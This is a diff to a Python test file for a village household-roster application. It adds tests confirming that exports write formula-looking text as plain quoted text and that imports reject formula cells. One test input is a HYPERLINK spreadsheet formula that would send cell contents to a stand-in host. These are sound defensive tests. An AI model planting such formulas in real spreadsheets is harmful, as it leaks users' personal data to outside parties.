@@ -345,7 +345,7 @@ def test_a_read_only_account_exports_masked_id_numbers(db, tmp_path):
         save_household(s, None, HouseholdForm(number="001", status="一般农户", group="一组"),
                        [MemberForm(name="张三明", id_number=number, relation="户主")])
         accounts.create_first_account(s, username="liming", full_name="李明", password="shuji2026")
-        accounts.create_user(s, username="guest", full_name="赵乡干", role="只读", password="guest123")
+        accounts.create_user(s, username="guest", full_name="赵乡干", role="只读", password="xiang2026")
 
     def exported_ids(who: str, password: str) -> list[str]:
         accounts.sign_in(db, who, password)
@@ -356,5 +356,58 @@ def test_a_read_only_account_exports_masked_id_numbers(db, tmp_path):
         book.close()
         return [r[rows[0].index("身份证号")] for r in rows[1:]]
 
-    assert exported_ids("guest", "guest123") == [idcard.mask(number)]
+    assert exported_ids("guest", "xiang2026") == [idcard.mask(number)]
     assert exported_ids("liming", "shuji2026") == [number]
+
+
+# -- formulas (issue 19) ----------------------------------------------------------------------------------
+
+LOOKS_LIKE_FORMULAS = {"address": '=HYPERLINK("http://x.example/?q="&A2,"点我")'}
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_and_round_trips(db, tmp_path):
+    number = idcard.make("410182", date(1970, 1, 1), 1, "男")
+    with db.transaction() as s:
+        save_household(s, None, HouseholdForm(number="001", status="未脱贫", group="一组", main_cause="02",
+                                              address=LOOKS_LIKE_FORMULAS["address"], note="+1"),
+                       [MemberForm(name="张三", id_number=number, relation="户主", note="@SUM(A1:A9)",
+                                   employment_place="-广州")])
+    with db.reading() as s:
+        export_roster(s, tmp_path / "one.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "one.xlsx")  # formulas as formulas, if any were written
+    ws = book["花名册"]
+    cells = {ws.cell(1, c).value: ws.cell(2, c) for c in range(1, ws.max_column + 1)}
+    assert all(c.data_type != "f" for c in cells.values())
+    assert cells["住址"].value == LOOKS_LIKE_FORMULAS["address"] and cells["住址"].quotePrefix
+    assert cells["户备注"].value == "+1" and cells["成员备注"].value == "@SUM(A1:A9)"
+
+    target = init_village(tmp_path / "fresh.db", village_code="410182104201", village_name="新沟村",
+                          township="汜水镇", county="荥阳市")
+    try:
+        with target.transaction() as s:
+            s.add(VillagerGroup(village_id=current_village(s).id, name="一组", sort_order=1))
+        shown = preview(target, tmp_path / "one.xlsx")
+        assert shown.problems == [] and import_roster(target, shown).households == 1
+        assert _by_number(target)["001"] == _by_number(db)["001"]  # every field exactly
+    finally:
+        target.close()
+
+
+def test_import_refuses_formulas_instead_of_reading_their_values(db, tmp_path):
+    number = idcard.make("410182", date(1970, 1, 1), 1, "男")
+    book = openpyxl.Workbook()
+    ws = book.active
+    ws.append(["户编号", "村民组", "姓名", "与户主关系", "身份证号", "户状态", "住址"])
+    ws.append(["001", "一组", "=1+1", "户主", number, "未脱贫", "=A1"])
+    ws.append(["002", "一组", "李四", "户主", f'="{number[:-1]}"&"{number[-1]}"', "未脱贫", "新沟"])
+    ws.append(["003", "一组", "=1+1", "户主", idcard.make("410182", date(1971, 1, 1), 1, "男"), "未脱贫", "新沟"])
+    ws["G4"].data_type = "s"  # a name that is literally "=1+1" is not a name either
+    ws["C4"].data_type = "s"
+    book.save(tmp_path / "f.xlsx")
+    shown = preview(db, tmp_path / "f.xlsx")
+    messages = [str(p) for p in shown.problems]
+    assert sum("单元格是公式（=1+1）" in m for m in messages) == 1
+    assert any("单元格是公式（=A1）" in m for m in messages)
+    assert any("身份证号" in m and "单元格是公式" in m for m in messages)
+    assert any("像是公式，不是姓名" in m for m in messages)
+    assert not shown.importable
